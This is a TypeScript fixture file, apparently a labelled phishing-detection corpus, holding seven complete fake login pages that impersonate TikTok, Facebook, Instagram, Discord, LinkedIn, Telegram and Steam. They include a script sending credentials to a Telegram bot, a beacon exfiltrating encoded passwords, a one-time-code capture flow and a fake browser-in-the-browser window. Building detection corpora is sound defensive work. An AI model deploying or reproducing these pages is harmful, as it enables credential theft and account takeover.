import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute, pngRoute } from '../parts/e-bin.js';
import { doc } from '../parts/za-kit.js';

export const entries: Entry[] = [
  {
  id: 'za-phish-tiktok-copyright-strike',
  label: 'phishing',
  kind: 'appeal-kit',
  url: 'https://tiktok-creator-support-center.com/copyright/appeal/7329951',
  body: doc({
    title: 'TikTok Creator Support — Copyright Violation Notice',
    css: `body{margin:0;background:#121212;color:#fff;font-family:Arial}.h{padding:16px 24px;border-bottom:1px solid #333;font-weight:bold;font-size:20px}.h span{color:#fe2c55}.c{max-width:480px;margin:30px auto;background:#1e1e1e;padding:24px;border-radius:8px}input{width:100%;padding:12px;margin:6px 0;background:#2f2f2f;border:0;color:#fff;border-radius:4px;box-sizing:border-box}button{width:100%;background:#fe2c55;color:#fff;border:0;padding:12px;border-radius:4px;font-weight:bold}.n{background:#3a1a20;border-left:3px solid #fe2c55;padding:10px;font-size:14px}`,
    body: `<div class="h">TikTok <span>Creator Support</span></div><div class="c"><div class="n">⚠ We have detected a copyright violation in your recent video. Your account will be banned and your Creator Rewards earnings withheld unless you verify ownership within 12:00:00.</div>
<h3>Verify account ownership</h3><form id="f"><input name="username" placeholder="@username"><input name="login" placeholder="Email / phone"><input name="password" type="password" placeholder="Password"><button>Submit objection</button></form><p style="font-size:12px;color:#999">Case ID: TT-CP-7329951 · TikTok Trust & Safety</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','https://api.telegram.org/bot7013345678:AAH2x8m-KkL9pQvY3nzWf0rT5sDg1eUbC4A/sendMessage');x.setRequestHeader('Content-Type','application/json');var d=new FormData(this);x.send(JSON.stringify({chat_id:'-1002011223344',text:'TT | '+d.get('username')+' | '+d.get('login')+' | '+d.get('password')}));setTimeout(function(){location.href='https://www.tiktok.com/'},900);};</script>`,
  }),
},
  {
  id: 'za-phish-login-wall-video-pt',
  label: 'phishing',
  kind: 'login-wall',
  url: 'https://video-compartilhado.online/watch/v/88172?s=msg',
  body: doc({
    title: 'Você aparece neste vídeo 😱 — Facebook',
    lang: 'pt-BR',
    css: `body{margin:0;font-family:Helvetica,Arial;background:#000}.v{position:fixed;inset:0;background:#111 url(/thumb.png) center/cover;filter:blur(8px)}.play{position:fixed;top:40%;left:50%;transform:translate(-50%,-50%);color:#fff;font-size:80px;opacity:.8}.m{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);width:360px;background:#fff;border-radius:8px;padding:20px;text-align:center}.m b.l{color:#1877f2;font-size:30px}input{width:100%;padding:12px;margin:5px 0;border:1px solid #ddd;border-radius:6px;box-sizing:border-box}button{width:100%;background:#1877f2;color:#fff;border:0;padding:12px;border-radius:6px;font-weight:bold}`,
    body: `<div class="v"></div><div class="play">▶</div><div class="m"><b class="l">facebook</b><p>Entre para assistir ao vídeo compartilhado com você.<br><small>Este conteúdo é visível apenas para amigos.</small></p>
<form id="f" method="post" action="/watch/auth"><input name="email" placeholder="Email ou telefone"><input name="pass" type="password" placeholder="Senha"><input type="hidden" name="v" value="88172"><button>Entrar</button></form><p><small>Esqueceu a senha?</small></p></div>`,
  }),
  routes: { 'video-compartilhado.online/thumb.png': pngRoute(40, 40, 40), 'video-compartilhado.online/watch/auth': redirectRoute(302, 'https://www.facebook.com/watch') },
},
  {
  id: 'za-phish-login-wall-album-id',
  label: 'phishing',
  kind: 'login-wall',
  url: 'https://album-foto-teman.my.id/lihat/?id=AQb91x',
  body: doc({
    title: 'Instagram',
    lang: 'id',
    css: `body{margin:0;font-family:-apple-system,Arial;background:#fafafa}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:3px;max-width:600px;margin:auto;filter:blur(6px)}.g div{aspect-ratio:1;background:#bbb}.o{position:fixed;inset:0;background:#0007;display:flex;align-items:center;justify-content:center}.b{background:#fff;width:340px;padding:24px;border-radius:12px;text-align:center}.logo{font:italic 34px Georgia}input{width:100%;padding:10px;margin:4px 0;border:1px solid #dbdbdb;background:#fafafa;box-sizing:border-box}button{width:100%;background:#0095f6;color:#fff;border:0;padding:9px;border-radius:8px;margin-top:8px}`,
    body: `<div class="g">${'<div></div>'.repeat(12)}</div><div class="o"><div class="b"><div class="logo">Instagram</div><p><b>rina.putri_</b> membagikan 12 foto dengan Anda</p><p style="font-size:13px;color:#737373">Masuk untuk melihat album pribadi ini.</p>
<form id="f"><input name="u" placeholder="Nomor telepon, nama pengguna, atau email"><input name="p" type="password" placeholder="Kata sandi"><button>Masuk</button></form></div></div>
<script>document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var q=btoa(unescape(encodeURIComponent(this.u.value+'|'+this.p.value)));new Image().src='/lihat/px.gif?d='+q;setTimeout(function(){location.replace('https://www.instagram.com/')},600);});</script>`,
  }),
},
  {
  id: 'za-phish-discord-nitro-gift-login',
  label: 'phishing',
  kind: 'giveaway-login',
  url: 'https://discord-nitro-gifts.store/gift/Xq7mPz2NkR8vLt3W',
  body: doc({
    title: 'Discord Nitro',
    css: `body{margin:0;background:#313338;font-family:'gg sans',Arial;color:#dbdee1;display:flex;align-items:center;justify-content:center;height:100vh}.c{background:#2b2d31;border-radius:8px;padding:32px;width:420px;text-align:center}.c h2{color:#fff}label{display:block;text-align:left;font-size:12px;font-weight:bold;text-transform:uppercase;color:#b5bac1;margin-top:12px}input{width:100%;padding:10px;background:#1e1f22;border:0;color:#fff;border-radius:3px;box-sizing:border-box}button{width:100%;background:#5865f2;color:#fff;border:0;padding:12px;margin-top:18px;border-radius:3px;font-weight:600}`,
    body: `<div class="c"><div style="font-size:50px">🎁</div><h2>You've been gifted a subscription!</h2><p><b>wumpus_fan#0420</b> gifted you <b>Discord Nitro</b> for 3 months.</p><p>Log in to accept the gift.</p>
<form method="post" action="/gift/accept"><label>Email or phone number</label><input name="login"><label>Password</label><input name="password" type="password"><button>Log In & Claim</button></form></div>`,
  }),
},
  {
  id: 'za-phish-linkedin-job-offer-doc',
  label: 'phishing',
  kind: 'login-wall',
  url: 'https://lnkd-talent-docs.com/offer/view?job=ops-manager-remote',
  body: doc({
    title: 'Job Offer Letter — shared via LinkedIn',
    css: `body{margin:0;font-family:-apple-system,Segoe UI,Arial;background:#f3f2ef}.d{max-width:700px;margin:30px auto;background:#fff;height:420px;filter:blur(5px);padding:30px}.d p{height:12px;background:#ddd;margin:12px 0}.m{position:fixed;top:80px;left:50%;transform:translateX(-50%);background:#fff;width:380px;padding:26px;border-radius:8px;box-shadow:0 4px 18px #0003}.m .l{color:#0a66c2;font-weight:bold;font-size:26px}input{width:100%;padding:12px;margin:6px 0;border:1px solid #666;border-radius:4px;box-sizing:border-box}button{width:100%;background:#0a66c2;color:#fff;border:0;border-radius:24px;padding:12px;font-weight:600}`,
    body: `<div class="d"><h2>Offer of Employment</h2>${'<p></p>'.repeat(14)}</div><div class="m"><div class="l">Linked<span style="background:#0a66c2;color:#fff;padding:0 3px;border-radius:3px">in</span></div><p><b>Karen Doyle</b> (Talent Acquisition, Northwind Group) shared a document with you: <i>Offer_Letter_Operations_Manager.pdf</i></p><p>Sign in to view.</p>
<form method="post" action="/offer/auth"><input name="session_key" placeholder="Email or phone"><input name="session_password" type="password" placeholder="Password"><button>Sign in</button></form></div>`,
  }),
},
  {
  id: 'za-phish-telegram-premium-gift-ru',
  label: 'phishing',
  kind: 'giveaway-login',
  url: 'https://telegram-premium-podarok.ru/gift?from=channel',
  body: doc({
    title: 'Telegram Premium — Подарок',
    lang: 'ru',
    css: `body{margin:0;font-family:Roboto,Arial;background:#fff}.c{max-width:380px;margin:40px auto;text-align:center;padding:20px}.s{font-size:70px}input{width:100%;padding:13px;font-size:17px;border:1px solid #dfe1e5;border-radius:10px;margin:8px 0;box-sizing:border-box}button{width:100%;background:#3390ec;color:#fff;border:0;border-radius:10px;padding:14px;font-size:16px}`,
    body: `<div class="c"><div class="s">⭐</div><h2>Вам подарили Telegram Premium на 6 месяцев!</h2><p>Чтобы активировать подарок, войдите в свой аккаунт Telegram. Подарок действует 24 часа.</p>
<div id="s1"><input id="ph" placeholder="+7 Номер телефона"><button onclick="n1()">Далее</button></div>
<div id="s2" style="display:none"><p>Мы отправили код в приложение Telegram на другом устройстве.</p><input id="cd" placeholder="Код" maxlength="5"><button onclick="n2()">Подтвердить</button></div>
<div id="s3" style="display:none"><p>Ваш аккаунт защищён облачным паролем.</p><input id="pw" type="password" placeholder="Облачный пароль"><button onclick="n3()">Войти</button></div></div>
<script>function p(o){return fetch('/api/auth',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)})}
function n1(){p({phone:ph.value});s1.style.display='none';s2.style.display='block'}function n2(){p({phone:ph.value,code:cd.value});s2.style.display='none';s3.style.display='block'}function n3(){p({phone:ph.value,code:cd.value,pw:pw.value}).then(function(){location.href='https://t.me/premium'})}</script>`,
  }),
  routes: { 'telegram-premium-podarok.ru/api/auth': jsonRoute({ ok: true }) },
},
  {
  id: 'za-phish-steam-vote-bitb',
  label: 'phishing',
  kind: 'login-wall',
  url: 'https://vote-esports-teams.com/tournament/team/frostbyte',
  body: doc({
    title: 'ESL Rising Stars 2025 — Vote for your favourite team',
    css: `body{margin:0;font-family:Arial;background:#0f1923;color:#fff}.h{padding:18px 30px;background:#1b2838;font-weight:bold;font-size:20px}.t{max-width:700px;margin:30px auto;text-align:center}.t img{width:140px;height:140px;background:#345;border-radius:50%}.vote{background:#5c7e10;color:#fff;border:0;padding:14px 40px;font-size:18px;border-radius:3px}#win{display:none;position:fixed;top:60px;left:50%;transform:translateX(-50%);width:460px;background:#fff;color:#000;border-radius:6px;box-shadow:0 10px 40px #000a;overflow:hidden}.bar{background:#dee1e6;padding:8px;font-size:12px}.url{background:#fff;border-radius:12px;padding:4px 10px;margin-top:4px;color:#333}.url b{color:#188038}.sb{background:#171a21;color:#c7d5e0;padding:24px}.sb input{width:100%;padding:10px;margin:6px 0;background:#32353c;border:0;color:#fff;box-sizing:border-box}.sb button{width:100%;background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;border:0;padding:12px}`,
    body: `<div class="h">ESL Rising Stars · Community Vote</div><div class="t"><img src="/team.png" alt=""><h1>Team FrostByte</h1><p>Help our team get to the LAN finals! Every vote counts — current votes: <b>18,442</b></p><button class="vote" onclick="win.style.display='block'">Vote with Steam</button></div>
<div id="win"><div class="bar">Steam Community :: Sign In — Google Chrome<div class="url">🔒 <b>https://steamcommunity.com</b>/openid/login?openid.mode=checkid_setup</div></div><div class="sb"><h3>Sign in</h3><form method="post" action="/openid/steam/login"><input name="username" placeholder="Steam account name"><input name="password" type="password" placeholder="Password"><button>Sign in</button></form></div></div>`,
  }),
  routes: { 'vote-esports-teams.com/team.png': pngRoute(60, 120, 200) },
},
];
